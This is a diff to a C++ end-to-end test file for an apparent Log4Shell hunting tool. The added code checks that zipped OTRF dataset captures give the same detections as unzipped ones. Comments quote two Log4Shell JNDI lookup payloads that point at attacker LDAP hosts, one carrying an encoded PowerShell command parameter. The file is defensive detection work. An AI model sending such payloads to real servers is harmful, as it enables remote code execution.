@@ -201,7 +201,7 @@ TEST_F(HuntE2E, PayloadsInsideRawCapturesAreFound) {
   EXPECT_TRUE(url_layer);
 }
 
-TEST_F(HuntE2E, OtrfCapturesAfterUnzipping) {
+TEST_F(HuntE2E, OtrfDatasetsUnzippedAndInPlace) {
   need_fixtures();
   if (sh("command -v unzip").exit_code != 0) GTEST_SKIP() << "unzip not installed";
   const std::string zips = kAttackData + "/OTRF-Security-Datasets/datasets/compound/Log4Shell/";
@@ -213,6 +213,28 @@ TEST_F(HuntE2E, OtrfCapturesAfterUnzipping) {
   // pcap_..._jndi_reference: ${jndi:ldap://192.168.2.6:1389/o=reference};
   // pcap_..._java_serialized: ${jndi:ldap://192.168.3.5:1389/o=tomcat,pwshb64cmd=...}.
   EXPECT_EQ(hosts, (std::set<std::string>{"192.168.2.6", "192.168.3.5"}));
+
+  // The zips hunted as they are give the same detections, callbacks and
+  // incidents, each named "dataset.zip!/member".
+  Lines packed = hunt_jsonl(q(zips));
+  EXPECT_TRUE(packed.errors.empty());
+  auto key = [](const json& d) {
+    std::string file = d["file"].get<std::string>();
+    size_t bang = file.rfind("!/");
+    return (bang == std::string::npos ? stdfs::path(file).filename().string() : file.substr(bang + 2)) + " " +
+           d.value("line", json()).dump() + " " + d.value("frame", json()).dump() + " " + d["raw"].dump() + " " +
+           d["jndi"].dump();
+  };
+  std::multiset<std::string> unzipped, in_place;
+  for (const json& d : out.detections) unzipped.insert(key(d));
+  for (const json& d : packed.detections) {
+    in_place.insert(key(d));
+    EXPECT_NE(d["file"].get<std::string>().find(".zip!/"), std::string::npos) << d["file"];
+  }
+  EXPECT_EQ(in_place, unzipped);
+  EXPECT_EQ(packed.network.size(), out.network.size());
+  EXPECT_EQ(packed.summary["stats"]["files"], out.summary["stats"]["files"]);
+  EXPECT_EQ(packed.summary["stats"]["bytes_text"], out.summary["stats"]["bytes_text"]);
 }
 
 // --- False alarms ----------------------------------------------------------
